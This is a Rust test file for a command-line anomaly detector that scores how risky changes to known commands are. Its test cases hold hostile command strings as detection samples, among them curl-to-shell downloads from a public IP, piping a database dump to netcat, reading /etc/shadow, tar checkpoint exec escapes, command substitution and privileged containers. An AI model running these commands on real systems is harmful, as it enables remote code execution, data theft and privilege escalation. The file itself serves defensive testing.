use super::*;

fn line(argv: &[&str]) -> Canonical {
    Canonical::new(argv[0], argv, false)
}

fn words(line: &str) -> Vec<&str> {
    line.split(' ').collect()
}

fn learned(lines: &[&[&str]]) -> Grammar {
    let mut grammar = Grammar::default();
    lines.iter().for_each(|argv| grammar.learn(argv[0], &line(argv)));
    grammar
}

fn risk(known: &str, new: &str) -> f32 {
    let (known, new) = (words(known), words(new));
    learned(&[&known]).compare(new[0], &line(&new)).risk
}

/// The default bound, as in replay.toml.
fn bound() -> f32 {
    crate::config::load(None, &[]).unwrap().args.grammar.accept
}

#[test]
fn structure_that_says_nothing_is_no_risk() {
    for (known, new) in [
        ("rsync -a -v /srv/a backup:/srv/a", "rsync -va /srv/a backup:/srv/a"),
        ("tar czf /backup/a.tgz /srv", "tar -c -z -f /backup/b.tgz /srv"),
        ("java -Xmx1g -jar app.jar", "java -XX:+UseG1GC -Xmx2g -jar app.jar"),
        ("psql -d shop -f /srv/a.sql", "psql -f /srv/a.sql -d shop"),
        ("find /srv/logs -name *.log", "find /srv/logs -maxdepth 2 -type f -name *.log"),
        ("app --workers 4 --level info", "app --level debug --workers 8 --colour"),
    ] {
        let risk = risk(known, new);
        assert!(risk <= bound(), "{risk} {known} | {new}");
    }
}

#[test]
fn known_traps_are_risks() {
    let long =
        format!("java {} -jar app.jar", (0..170).map(|n| format!("-Dkey{n}=value")).collect::<Vec<_>>().join(" "));
    let agent = long.replace("-Dkey99=value", "-Dkey99=value -agentpath:/var/tmp/libx.so");
    let payload = format!("{long} && curl http://203.0.113.9/x | sh");
    let run = |first: &str| format!("app --blob {}", first.repeat(30));
    let (one, other) = (run("aB3d"), run("xY7z"));
    for (known, new) in [
        (&*long, &*agent),
        (&long, &payload),
        (&one, &other),
        ("curl -s http://web/a", "curl -s -o a http://web/a"),
        ("curl -s -o a http://web/a", "curl -s -O http://web/a"),
        ("curl -s http://10.0.0.4/a", "curl -s http://203.0.113.4/a"),
        ("curl -s http://127.0.0.1/a", "curl -s http://10.0.0.4/a"),
        ("rsync -a /srv/a/ backup:/srv/a/", "rsync -a backup:/srv/a/ /srv/a/"),
        ("rsync -a /srv/a/ /mnt/b/", "rsync -a /mnt/b/ /srv/a/"),
        ("sshd -D -o PermitRootLogin=no", "sshd -D -o PermitRootLogin=yes"),
        ("sed -i s/PermitRootLogin=no/x/ f", "sed -i s/PermitRootLogin=no/x/e f"),
        ("kill 4312", "kill 1"),
        ("kill -TERM 4312", "kill -TERM -1"),
        ("chmod 0644 f", "chmod 4755 f"),
        ("app --user 1000", "app --user 0"),
        ("tar cf a.tar /srv", "tar cf a.tar /srv --checkpoint-action=exec=sh"),
        ("docker run web", "docker run --privileged web"),
        ("cat /srv/a", "cat /etc/shadow"),
    ] {
        let risk = risk(known, new);
        assert!(risk > bound(), "{risk} {} | {}", &known[..known.len().min(60)], &new[..new.len().min(60)]);
    }
}

#[test]
fn shell_strings_are_compared_by_their_commands() {
    let known: &[&str] = &["sh", "-c", "pg_dump shop > /backup/shop.sql"];
    let grammar = learned(&[known, &["sh", "-c", "curl -s http://web/a | sort"], &["sh", "-c", "cat /srv/x | sh"]]);
    let risk = |script: &str| grammar.compare("sh", &line(&["sh", "-c", script])).risk;
    assert!(risk("pg_dump shop | gzip > /backup/shop.sql.gz") <= bound());
    assert!(risk("sort; pg_dump shop > /backup/shop.sql") <= bound());
    for script in [
        "curl -s http://web/a | bash",
        "pg_dump shop > /backup/shop.sql; id",
        "pg_dump $(id) > /backup/shop.sql",
        "pg_dump shop > /etc/cron.d/x",
        "pg_dump shop | nc 203.0.113.1 80",
        "/tmp/x & pg_dump shop > /backup/shop.sql",
    ] {
        assert!(risk(script) > bound(), "{} {script}", risk(script));
    }
}

#[test]
fn a_leaf_learns_what_it_was_shown() {
    let risky = words("docker run --privileged web");
    let mut grammar = learned(&[&words("docker run web")]);
    assert!(grammar.compare("docker", &line(&risky)).risk > bound());
    grammar.learn("docker", &line(&risky));
    assert_eq!(grammar.compare("docker", &line(&risky)), Novelty { risk: 0.0, changes: vec![] });
    // In any order, and with what the other line had.
    assert_eq!(grammar.compare("docker", &line(&words("docker --privileged run web"))).risk, 0.0);
}

#[test]
fn what_protects_and_is_left_out_is_a_change() {
    assert!(risk("redis-server --requirepass x --port 6379", "redis-server --port 6379") > bound());
    assert!(risk("find /srv/c -mtime +7 -delete", "find /srv/c -delete") > bound());
    assert!(risk("app --verbose --port 80", "app --port 80") <= bound());
    // A leaf that also ran without it does not miss it.
    let grammar = learned(&[&words("app --auth --port 80"), &words("app --port 80")]);
    assert_eq!(grammar.compare("app", &line(&words("app --port 80"))).risk, 0.0);
}

#[test]
fn the_riskiest_change_comes_first_and_is_named() {
    let grammar = learned(&[&words("curl -s http://web/a")]);
    let found = grammar.compare("curl", &line(&words("curl -s -v -k http://203.0.113.4/a")));
    assert!(found.changes[0].what.contains("<ip:public>"), "{found:?}");
    assert!(found.changes.windows(2).all(|pair| pair[0].risk >= pair[1].risk));
    assert!(found.risk < 1.0 && found.risk > found.changes[0].risk);
}

#[test]
fn odd_input_does_not_panic() {
    let odd = [
        "",
        "-",
        "--",
        "=",
        "-=",
        "é",
        "-é",
        "-éa",
        "a:é",
        "://",
        "@",
        "user@",
        ":",
        ",",
        "/",
        "//",
        "'",
        "\"",
        "$(",
        "<",
        "<ip:",
        "-o=",
        ":80",
        "é@é:/é",
    ];
    let grammar = learned(&[&["app", "a"]]);
    for program in ["app", "tar", "java", "ssh", "find", "sh", "rsync", ""] {
        for a in odd {
            for b in odd {
                let found = grammar.compare(program, &Canonical::new(program, &[program, a, b], false));
                assert!((0.0..=1.0).contains(&found.risk), "{a} {b}");
                let script = format!("{a} {b}; {b} | {a}");
                let _ = grammar.compare("sh", &Canonical::new("sh", &["sh", "-c", &script], true));
            }
        }
    }
}
